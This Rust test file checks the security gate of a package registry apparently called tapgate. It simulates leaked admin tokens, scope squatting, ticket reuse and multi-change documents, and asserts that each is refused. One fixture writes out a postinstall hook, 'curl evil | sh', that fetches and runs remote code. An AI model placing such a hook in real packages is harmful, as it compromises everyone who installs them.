//! Attacks on the one gate: tokens (admin included) that try to change what installers get or
//! who may change it, names claimed that belong to others, and taps used for another change.
//! Each refusal asserts its exact code and that nothing changed.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tapgate_server::store::tokens::TokenSource;
use tapgate_shared::api::Scope;

use crate::gate_support::{admin, send, tap_required, with_tap};
use crate::keys_support::SoftKey;
use crate::publish_support::*;
use crate::state_support::refused;
use crate::support::{Backend, TestApp, backend_tests, expect_error};

backend_tests!(
    leaked_admin_tokens_change_nothing_without_the_admins_tap,
    a_plain_token_changes_no_release_without_a_tap,
    names_belong_to_their_maintainers_scopes_and_reservations,
    a_tap_approves_one_change_only,
    documents_that_ask_for_more_than_one_change_are_refused,
    a_key_add_ticket_enrolls_only_the_attested_key,
);

async fn package_state(app: &TestApp, name: &str) -> Value {
    let info: Value = app.get_json(&format!("/api/v1/packages/{}", encode(name))).await;
    let served: Value = app.get_json(&format!("/{}", encode(name))).await;
    let deprecated: Vec<Value> = served["versions"]
        .as_object()
        .map(|v| v.values().map(|m| m["deprecated"].clone()).collect())
        .unwrap_or_default();
    json!({ "info": info, "deprecated": deprecated })
}

/// A package `name` with versions 1.0.0 and 1.0.1 published by `m` (latest 1.0.1).
async fn released(app: &TestApp, m: &Maintainer, name: &str) {
    for v in ["1.0.0", "1.0.1"] {
        let resp = publish_with_key(app, m, name, v, &tarball(name, v, v)).await;
        assert_eq!(resp.status(), StatusCode::CREATED);
    }
}

async fn leaked_admin_tokens_change_nothing_without_the_admins_tap(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    released(&app, &alice, "core").await;
    let root = admin(&app, "root").await;
    let root_user = app.store().user_by_name("root").await.unwrap().unwrap();
    let issued = app.token(&root_user, &[Scope::Read, Scope::Publish, Scope::Admin]).await;
    let (_, phished) = app
        .store()
        .issue_token(
            &root_user.id,
            "npm login",
            &[Scope::Read, Scope::Publish, Scope::Admin],
            None,
            TokenSource::NpmLogin,
            app.clock_now(),
        )
        .await
        .unwrap();
    let derived: Value = send(
        &app,
        Method::POST,
        "/api/v1/tokens",
        &issued,
        Some(&json!({"name": "d", "scopes": ["read", "publish", "admin"]})),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    let derived = derived["token"].as_str().unwrap().to_string();
    let before = package_state(&app, "core").await;
    let mallory = maintainer(&app, "mallory").await;
    let mallory_id = app.store().user_by_name("mallory").await.unwrap().unwrap().id;
    let mallory_cred = app.store().keys_of_user(&mallory_id).await.unwrap()[0].credential_id.clone();

    for token in [&issued, &phished, &derived, &root.token] {
        // Make themselves a maintainer: an approval for the admin's own keys, nothing else.
        let resp = send(&app, Method::PUT, "/api/v1/packages/core/maintainers/root", token, None, None).await;
        let info = tap_required(resp).await;
        assert_eq!(info.description, "Make root a maintainer of core");
        let options = info.public_key.as_ref().unwrap();
        let root_keys = app.store().keys_of_user(&root_user.id).await.unwrap();
        assert_eq!(options.allow_credentials.len(), root_keys.len(), "only the admin's own keys may approve");
        // The attacker's own (enrolled) key cannot answer it.
        let mut forged = options.clone();
        forged.allow_credentials[0].id = mallory_cred.clone();
        let cred = tapgate::ceremony::assert(&mallory.key.choice, &forged, &app.origin).await.unwrap();
        refused!(
            &app,
            finish_approval(&app, &info.id, &cred).await,
            StatusCode::UNAUTHORIZED,
            "webauthn_failed"
        );
        // Lower the policy.
        let resp = send(
            &app,
            Method::PUT,
            "/api/v1/packages/core/policy",
            token,
            Some(&json!({"second_factor": "none"})),
            None,
        )
        .await;
        let info = tap_required(resp).await;
        assert_eq!(info.action, "policy-set");
        // Publish malware, move latest, unpublish: not a maintainer, so not even an approval.
        let evil = tarball("core", "6.6.6", "evil");
        let msg = refused!(
            &app,
            put(&app, token, "core", &publish_body("core", "6.6.6", &evil), None).await,
            StatusCode::FORBIDDEN,
            "forbidden"
        );
        assert!(msg.contains("not a maintainer of core"), "{msg}");
        let resp =
            send(&app, Method::PUT, "/-/package/core/dist-tags/latest", token, Some(&json!("1.0.0")), None)
                .await;
        expect_error(resp, StatusCode::FORBIDDEN, "forbidden").await;
        let resp =
            send(&app, Method::DELETE, "/api/v1/packages/core/versions/1.0.1", token, None, None).await;
        expect_error(resp, StatusCode::FORBIDDEN, "forbidden").await;
        assert_eq!(package_state(&app, "core").await, before, "nothing changed");
    }
    // A forged ticket does not complete the admin's pending change either.
    refused!(
        &app,
        send(
            &app,
            Method::PUT,
            "/api/v1/packages/core/maintainers/root",
            &issued,
            None,
            Some("tg_tkt_forged"),
        )
        .await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    assert_eq!(package_state(&app, "core").await, before);
    // With the admin's own tap the same change goes through: the gate asks for evidence, not
    // for a different door.
    let (_, resp) =
        with_tap(&app, Method::PUT, "/api/v1/packages/core/maintainers/root", &issued, None, &root.key).await;
    assert_eq!(resp.status(), StatusCode::OK);
    let after: Value = app.get_json("/api/v1/packages/core/maintainers").await;
    assert_eq!(after["maintainers"], json!(["alice", "root"]));
}

async fn a_plain_token_changes_no_release_without_a_tap(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    released(&app, &alice, "lib").await;
    let bob = maintainer(&app, "bob").await;
    let (_, resp) =
        with_tap(&app, Method::PUT, "/api/v1/packages/lib/maintainers/bob", &alice.token, None, &alice.key)
            .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let before = package_state(&app, "lib").await;
    let user = app.store().user_by_name("alice").await.unwrap().unwrap();
    let leaked = app.token(&user, &[Scope::Read, Scope::Publish]).await;
    let attempts: [(Method, &str, Option<Value>, &str); 6] = [
        (
            Method::PUT,
            "/-/package/lib/dist-tags/latest",
            Some(json!("1.0.0")),
            "Move `latest` of lib from 1.0.1 to 1.0.0",
        ),
        (
            Method::PUT,
            "/-/package/lib/dist-tags/next",
            Some(json!("1.0.0")),
            "Point the new tag `next` of lib at 1.0.0",
        ),
        (
            Method::PUT,
            "/api/v1/packages/lib/versions/1.0.0/deprecation",
            Some(json!({"message": "pwned"})),
            "Deprecate lib@1.0.0 with the message \"pwned\"",
        ),
        (Method::DELETE, "/api/v1/packages/lib/versions/1.0.1", None, "Unpublish lib@1.0.1"),
        (Method::DELETE, "/api/v1/packages/lib", None, "Unpublish all of lib"),
        (
            Method::DELETE,
            "/api/v1/packages/lib/maintainers/bob",
            None,
            "Remove bob from the maintainers of lib",
        ),
    ];
    for (method, path, body, described) in attempts {
        let info = tap_required(send(&app, method.clone(), path, &leaked, body.as_ref(), None).await).await;
        assert!(info.description.starts_with(described), "{} vs {described}", info.description);
        assert_eq!(info.status, "pending");
        assert_eq!(package_state(&app, "lib").await, before, "{path}: nothing changed");
    }
    // npm's own protocol is the same gate: a deprecation document, a version dropped from the
    // document, a whole-package delete.
    let mut doc: Value = app.get_json("/lib?write=true").await;
    doc["versions"]["1.0.0"]["deprecated"] = json!("pwned");
    tap_required(send(&app, Method::PUT, "/lib", &leaked, Some(&doc), None).await).await;
    let mut doc: Value = app.get_json("/lib?write=true").await;
    doc["versions"].as_object_mut().unwrap().remove("1.0.1");
    doc["dist-tags"]["latest"] = json!("1.0.0");
    let rev = doc["_rev"].as_str().unwrap().to_string();
    tap_required(send(&app, Method::PUT, &format!("/lib/-rev/{rev}"), &leaked, Some(&doc), None).await).await;
    tap_required(send(&app, Method::DELETE, &format!("/lib/-rev/{rev}"), &leaked, None, None).await).await;
    tap_required(
        send(&app, Method::DELETE, &format!("/lib/-/lib-1.0.1.tgz/-rev/{rev}"), &leaked, None, None).await,
    )
    .await;
    assert_eq!(package_state(&app, "lib").await, before);
    // Writes this registry does not do are refused, never answered 200.
    refused!(
        &app,
        send(
            &app,
            Method::PUT,
            &format!("/lib/-rev/{rev}"),
            &leaked,
            Some(&json!({"_id": "lib", "description": "x"})),
            None,
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request"
    );
    let mut doc: Value = app.get_json("/lib?write=true").await;
    doc["versions"]["9.9.9"] = doc["versions"]["1.0.0"].clone();
    refused!(
        &app,
        send(&app, Method::PUT, "/lib", &leaked, Some(&doc), None).await,
        StatusCode::BAD_REQUEST,
        "bad_request"
    );
    let resp =
        send(&app, Method::PUT, "/lib", &leaked, Some(&app.get_json::<Value>("/lib").await), None).await;
    expect_error(resp, StatusCode::CONFLICT, "conflict").await;
    assert_eq!(package_state(&app, "lib").await, before);
    drop(bob);
}

async fn names_belong_to_their_maintainers_scopes_and_reservations(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    let mallory = maintainer(&app, "mallory").await;
    let root = admin(&app, "root").await;
    let alice_id = app.store().user_by_name("alice").await.unwrap().unwrap().id;
    // A name reserved for alice before its first publish.
    app.store()
        .reserve_package(
            "bank",
            r#"{"v":1,"second_factor":"security-key"}"#,
            std::slice::from_ref(&alice_id),
            app.clock_now(),
        )
        .await
        .unwrap();
    let tgz = tarball("bank", "1.0.0", "evil");
    let msg = refused!(
        &app,
        put(&app, &mallory.token, "bank", &publish_body("bank", "1.0.0", &tgz), None).await,
        StatusCode::FORBIDDEN,
        "forbidden"
    );
    assert!(msg.contains("ask one of its maintainers (alice)"), "{msg}");
    // Someone else's scope, a scope nobody owns, and one's own.
    for (name, whom) in [("@alice/x", "nobody owns it yet"), ("@acme/x", "nobody owns it yet")] {
        let tgz = tarball(name, "1.0.0", "evil");
        let msg = refused!(
            &app,
            put(&app, &mallory.token, name, &publish_body(name, "1.0.0", &tgz), None).await,
            StatusCode::FORBIDDEN,
            "forbidden"
        );
        assert!(msg.contains("does not belong to you") && msg.contains(whom), "{msg}");
    }
    app.store().add_scope_owner("@acme", &alice_id, app.clock_now()).await.unwrap();
    let tgz = tarball("@acme/x", "1.0.0", "evil");
    let msg = refused!(
        &app,
        put(&app, &mallory.token, "@acme/x", &publish_body("@acme/x", "1.0.0", &tgz), None).await,
        StatusCode::FORBIDDEN,
        "forbidden"
    );
    assert!(msg.contains("ask its owners (alice)"), "{msg}");
    for name in ["@acme/x", "@alice/x", "@mallory/x", "bank"] {
        let status = app.http.get(app.url(&format!("/{}", encode(name)))).send().await.unwrap().status();
        assert_eq!(status, StatusCode::NOT_FOUND, "{name} stays unpublished");
    }
    let own = tarball("@mallory/x", "1.0.0", "mine");
    assert_eq!(
        publish_with_key(&app, &mallory, "@mallory/x", "1.0.0", &own).await.status(),
        StatusCode::CREATED
    );
    assert_eq!(
        publish_with_key(&app, &alice, "@acme/x", "1.0.0", &tarball("@acme/x", "1.0.0", "a")).await.status(),
        StatusCode::CREATED
    );
    assert_eq!(
        publish_with_key(&app, &alice, "bank", "1.0.0", &tarball("bank", "1.0.0", "b")).await.status(),
        StatusCode::CREATED
    );
    // An administrator's policy on a new name reserves it, for nobody until they add someone.
    let body = json!({"second_factor": "security-key"});
    let (_, resp) =
        with_tap(&app, Method::PUT, "/api/v1/packages/vault/policy", &root.token, Some(&body), &root.key)
            .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let msg = refused!(
        &app,
        put(
            &app,
            &mallory.token,
            "vault",
            &publish_body("vault", "1.0.0", &tarball("vault", "1.0.0", "e")),
            None,
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden"
    );
    assert!(msg.contains("reserved"), "{msg}");
}

async fn a_tap_approves_one_change_only(backend: Backend) {
    // Presents many refused tickets on purpose: without the lockout (tested in `lockout`),
    // which would stop the package after five.
    let Some(app) = TestApp::with_config(backend, |c| c.rate_limits.lock_after = None).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    released(&app, &alice, "lib").await;
    // Approve moving `beta`, then present that ticket for moving `next`, or `beta` elsewhere.
    let info = tap_required(
        send(&app, Method::PUT, "/-/package/lib/dist-tags/beta", &alice.token, Some(&json!("1.0.0")), None)
            .await,
    )
    .await;
    let ticket = approve(&app, &info, &alice.key).await;
    for (path, version) in
        [("/-/package/lib/dist-tags/next", "1.0.0"), ("/-/package/lib/dist-tags/beta", "1.0.1")]
    {
        let resp =
            send(&app, Method::PUT, path, &alice.token, Some(&json!(version)), Some(&ticket.ticket)).await;
        let msg = expect_error(resp, StatusCode::FORBIDDEN, "invalid_ticket").await;
        assert!(msg.contains("approves a different change"), "{msg}");
    }
    let tags: Value = app.get_json("/-/package/lib/dist-tags").await;
    assert_eq!(tags, json!({"latest": "1.0.1"}));
    // The typed code is bound the same way.
    refused!(
        &app,
        send(
            &app,
            Method::PUT,
            "/-/package/lib/dist-tags/next",
            &alice.token,
            Some(&json!("1.0.0")),
            Some(&ticket.code),
        )
        .await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    // The approved change, once; then the ticket is spent.
    let resp = send(
        &app,
        Method::PUT,
        "/-/package/lib/dist-tags/beta",
        &alice.token,
        Some(&json!("1.0.0")),
        Some(&ticket.ticket),
    )
    .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let resp =
        send(&app, Method::DELETE, "/-/package/lib/dist-tags/beta", &alice.token, None, Some(&ticket.ticket))
            .await;
    expect_error(resp, StatusCode::FORBIDDEN, "invalid_ticket").await;

    // Deprecating 1.0.0 approved; presented for 1.0.1, or with another message.
    let path = "/api/v1/packages/lib/versions/1.0.0/deprecation";
    let info = tap_required(
        send(&app, Method::PUT, path, &alice.token, Some(&json!({"message": "old"})), None).await,
    )
    .await;
    let ticket = approve(&app, &info, &alice.key).await;
    refused!(
        &app,
        send(
            &app,
            Method::PUT,
            "/api/v1/packages/lib/versions/1.0.1/deprecation",
            &alice.token,
            Some(&json!({"message": "old"})),
            Some(&ticket.ticket),
        )
        .await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    let resp =
        send(&app, Method::PUT, path, &alice.token, Some(&json!({"message": "other"})), Some(&ticket.ticket))
            .await;
    expect_error(resp, StatusCode::FORBIDDEN, "invalid_ticket").await;
    // Unpublishing 1.0.0 with a ticket approving its deprecation.
    refused!(
        &app,
        send(
            &app,
            Method::DELETE,
            "/api/v1/packages/lib/versions/1.0.0",
            &alice.token,
            None,
            Some(&ticket.ticket),
        )
        .await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    let served: Value = app.get_json("/lib").await;
    assert!(
        served["versions"]["1.0.0"].get("deprecated").is_none()
            && served["versions"]["1.0.1"].get("deprecated").is_none()
    );
    // Someone else's token with alice's ticket.
    let bob = maintainer(&app, "bob").await;
    let resp =
        send(&app, Method::PUT, path, &bob.token, Some(&json!({"message": "old"})), Some(&ticket.ticket))
            .await;
    expect_error(resp, StatusCode::FORBIDDEN, "forbidden").await;
    let resp =
        send(&app, Method::PUT, path, &alice.token, Some(&json!({"message": "old"})), Some(&ticket.ticket))
            .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let served: Value = app.get_json("/lib/1.0.0").await;
    assert_eq!(served["deprecated"], "old");

    // A key removal approved for one key, presented for another.
    let backup = SoftKey::new();
    let (ceremony, cred) = crate::keys_support::registration_response(&app, &alice.token, &backup).await;
    let info = tap_required(
        crate::keys_support::finish_registration(&app, &alice.token, &ceremony, "b", &cred).await,
    )
    .await;
    let ticket = approve(&app, &info, &alice.key).await;
    refused!(
        &app,
        app.http
            .post(app.url(&format!("/api/v1/keys/registrations/{ceremony}")))
            .bearer_auth(&alice.token)
            .header("npm-otp", &ticket.ticket)
            .json(&json!({ "name": "renamed", "credential": cred }))
            .send()
            .await
            .unwrap(),
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    let keys: Value = app.get_json_as("/api/v1/keys", &alice.token).await;
    let keys = keys["keys"].as_array().unwrap().clone();
    assert_eq!(keys.len(), 1, "the new key is enrolled only under the name approved");
    let first = keys[0]["id"].as_str().unwrap().to_string();
    let resp = app
        .http
        .post(app.url(&format!("/api/v1/keys/registrations/{ceremony}")))
        .bearer_auth(&alice.token)
        .header("npm-otp", &ticket.ticket)
        .json(&json!({ "name": "b", "credential": cred }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    let second: Value = resp.json().await.unwrap();
    let info = tap_required(
        send(
            &app,
            Method::DELETE,
            &format!("/api/v1/keys/{}", second["id"].as_str().unwrap()),
            &alice.token,
            None,
            None,
        )
        .await,
    )
    .await;
    let ticket = approve(&app, &info, &alice.key).await;
    refused!(
        &app,
        send(
            &app,
            Method::DELETE,
            &format!("/api/v1/keys/{first}"),
            &alice.token,
            None,
            Some(&ticket.ticket),
        )
        .await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    let keys: Value = app.get_json_as("/api/v1/keys", &alice.token).await;
    assert_eq!(keys["keys"].as_array().unwrap().len(), 2, "no key removed");
}

async fn documents_that_ask_for_more_than_one_change_are_refused(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    released(&app, &alice, "lib").await;
    let before = package_state(&app, "lib").await;
    // A deprecation document that also edits a published manifest, the tags, or the maintainers.
    let base: Value = app.get_json("/lib?write=true").await;
    let mut edits = Vec::new();
    let mut doc = base.clone();
    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
    doc["versions"]["1.0.0"]["scripts"] = json!({"postinstall": "curl evil | sh"});
    edits.push(("/lib".to_string(), doc, "immutable"));
    let mut doc = base.clone();
    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
    doc["dist-tags"]["latest"] = json!("1.0.0");
    edits.push(("/lib".to_string(), doc, "npm dist-tag"));
    let mut doc = base.clone();
    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
    doc["maintainers"] = json!([{"name": "alice"}, {"name": "mallory"}]);
    edits.push(("/lib".to_string(), doc, "npm owner"));
    // An unpublish document that also adds a maintainer, or points `latest` elsewhere.
    let rev = base["_rev"].as_str().unwrap().to_string();
    let mut doc = base.clone();
    doc["versions"].as_object_mut().unwrap().remove("1.0.1");
    doc["dist-tags"] = json!({"latest": "1.0.0"});
    doc["maintainers"] = json!([{"name": "alice"}, {"name": "mallory"}]);
    edits.push((format!("/lib/-rev/{rev}"), doc, "npm owner"));
    let mut doc = base.clone();
    doc["versions"].as_object_mut().unwrap().remove("1.0.0");
    doc["dist-tags"] = json!({"latest": "1.0.0"});
    edits.push((format!("/lib/-rev/{rev}"), doc, "npm dist-tag"));
    for (path, doc, hint) in edits {
        let msg = refused!(
            &app,
            send(&app, Method::PUT, &path, &alice.token, Some(&doc), None).await,
            StatusCode::BAD_REQUEST,
            "bad_request"
        );
        assert!(msg.contains(hint), "{path}: {msg}");
    }
    // Deprecation messages are one bounded line.
    for message in ["x".repeat(1025), "two\nlines".to_string(), "nul\u{0}".to_string()] {
        let body = json!({ "message": message });
        refused!(
            &app,
            send(
                &app,
                Method::PUT,
                "/api/v1/packages/lib/versions/1.0.0/deprecation",
                &alice.token,
                Some(&body),
                None,
            )
            .await,
            StatusCode::BAD_REQUEST,
            "bad_request"
        );
    }
    // Versions with build metadata would reuse a number as npm reads it.
    let tgz = tarball("lib", "1.0.1+evil", "evil");
    refused!(
        &app,
        put(&app, &alice.token, "lib", &publish_body("lib", "1.0.1+evil", &tgz), None).await,
        StatusCode::BAD_REQUEST,
        "bad_request"
    );
    // Control characters in a path never reach the database.
    for path in ["/li%00b", "/-/package/li%00b/dist-tags", "/api/v1/approvals/apr_%00"] {
        refused!(
            &app,
            app.http.get(app.url(path)).send().await.unwrap(),
            StatusCode::BAD_REQUEST,
            "bad_request"
        );
    }
    assert_eq!(package_state(&app, "lib").await, before, "nothing changed");
}

async fn a_key_add_ticket_enrolls_only_the_attested_key(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    let new_key = SoftKey::new();
    let (ceremony, cred) = crate::keys_support::registration_response(&app, &alice.token, &new_key).await;
    let info = tap_required(
        crate::keys_support::finish_registration(&app, &alice.token, &ceremony, "b", &cred).await,
    )
    .await;
    let intent = info.intent.clone().unwrap();
    assert!(
        matches!(intent.change, tapgate_shared::gate_intent::Change::KeyAdd { ref attestation_sha256, .. } if attestation_sha256.len() == 64)
    );
    let ticket = approve(&app, &info, &alice.key).await;
    // The same name and credential id with another attestation object (another public key).
    let mut other = serde_json::to_value(&cred).unwrap();
    let mut attestation = base64::Engine::decode(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
        other["response"]["attestationObject"].as_str().unwrap(),
    )
    .unwrap();
    let last = attestation.len() - 1;
    attestation[last] ^= 1;
    other["response"]["attestationObject"] =
        json!(base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, attestation));
    let repeat = |body: Value| {
        app.http
            .post(app.url(&format!("/api/v1/keys/registrations/{ceremony}")))
            .bearer_auth(&alice.token)
            .header("npm-otp", &ticket.ticket)
            .json(&json!({ "name": "b", "credential": body }))
            .send()
    };
    expect_error(repeat(other).await.unwrap(), StatusCode::FORBIDDEN, "invalid_ticket").await;
    assert_eq!(crate::keys_support::key_count(&app, "alice").await, 1);
    let resp = repeat(serde_json::to_value(&cred).unwrap()).await.unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    assert_eq!(crate::keys_support::key_count(&app, "alice").await, 2);
}
